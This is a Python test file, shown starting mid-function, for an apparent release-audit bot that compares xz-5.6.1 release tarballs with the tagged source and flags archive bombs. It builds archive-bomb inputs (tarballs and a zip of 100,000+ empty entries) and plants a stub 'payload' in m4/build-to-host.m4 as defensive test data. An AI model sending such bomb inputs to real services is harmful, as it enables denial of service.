    header[108:116] = header[116:124] = b"0000000\0"
    header[124:136] = b"00000000000\0"
    header[136:148] = b"00000000000\0"
    header[148:156] = b" " * 8
    header[156:157] = b"0"
    header[257:265] = b"ustar\x0000"
    header[148:156] = b"%06o\0 " % sum(header)
    return bytes(header)


def _empty_files_tarball(count: int) -> bytes:
    raw = b"".join(_tar_header(f"xz-5.6.1/empty/{n % 100}/f{n}") for n in range(count))
    return gzip.compress(raw + b"\0" * 1024, compresslevel=1)


def test_the_fast_tar_builder_writes_what_tarfile_reads():
    contents = read_archive("x.tar.gz", io.BytesIO(_empty_files_tarball(3)))
    assert contents.complete and sorted(contents.files) == [
        "empty/0/f0",
        "empty/1/f1",
        "empty/2/f2",
    ]


async def test_an_archive_of_100000_empty_files_completes_and_reports(bot: Bot):
    repo = await project(bot)
    repo.create_tag("v5.6.1")
    archive = _empty_files_tarball(100_000)
    lag = 0.0
    done = False

    async def watch() -> None:
        nonlocal lag
        last = time.perf_counter()
        while not done:
            await asyncio.sleep(0)
            now = time.perf_counter()
            lag, last = max(lag, now - last), now

    watcher = asyncio.create_task(watch())
    try:
        await publish(bot, repo, "v5.6.1", {"xz-5.6.1.tar.gz": archive})
    finally:
        done = True
        await watcher
    data = release_record(repo, repo.tags["v5.6.1"])
    (shipped,) = data["archives"]
    assert shipped["counts"]["added"] == 100_000 and shipped["counts"]["same"] == 0
    assert data["conclusion"] == "neutral"
    (issue,) = release_issues(repo)
    assert " more |" in issue.body and len(issue.body) <= 65536
    assert lag < 5.0, f"the event loop was held for {lag:.2f} s"


async def test_one_member_past_the_bound_is_an_archive_bomb(bot: Bot):
    repo = await project(bot)
    repo.create_tag("v5.6.1")
    await publish(bot, repo, "v5.6.1", {"xz-5.6.1.tar.gz": _empty_files_tarball(100_001)})
    data = release_record(repo, repo.tags["v5.6.1"])
    (shipped,) = data["archives"]
    assert shipped["severity"] == "high"
    assert "archive-bomb" in {entry["kind"] for entry in shipped["flagged"]}


async def test_a_release_with_many_assets_cannot_hide_one_among_them(bot: Bot):
    """At most 20 archives are downloaded per audit (so that anyone's `/audit` cannot make the
    App download without end); the rest are reported as not checked, which fails the release."""
    repo = await project(bot)
    repo.create_tag("v5.6.1")
    clean = source_tarball(tree_at(repo, "v5.6.1"))
    assets = {f"xz-5.6.1-part{n:03d}.tar.gz": clean for n in range(150)}
    assets["xz-5.6.1-part150.tar.gz"] = source_tarball(
        {**tree_at(repo, "v5.6.1"), "m4/build-to-host.m4": "dnl payload\n"}
    )
    for n in range(100):
        assets[f"notes-{n}.txt"] = b"not an archive"
    await publish(bot, repo, "v5.6.1", assets)
    data = release_record(repo, repo.tags["v5.6.1"])
    assert len(data["archives"]) == 151
    assert data["conclusion"] == "failure"
    payload = next(a for a in data["archives"] if a["name"] == "xz-5.6.1-part150.tar.gz")
    assert payload["severity"] == "high" and "was not" in payload["problem"]
    assert bot.fake.count("GET /repos/{owner}/{repo}/releases/assets/{asset_id}") == 20


def test_a_zip_listing_100001_entries_is_refused_before_reading_them():
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as archive:
        for n in range(100_001):
            archive.writestr(f"x/{n}", b"")
    buf.seek(0)
    started = time.perf_counter()
    contents = read_archive("x.zip", buf, Limits())
    assert [f.kind for f in contents.findings] == ["archive-bomb"]
    assert not contents.complete and time.perf_counter() - started < 30
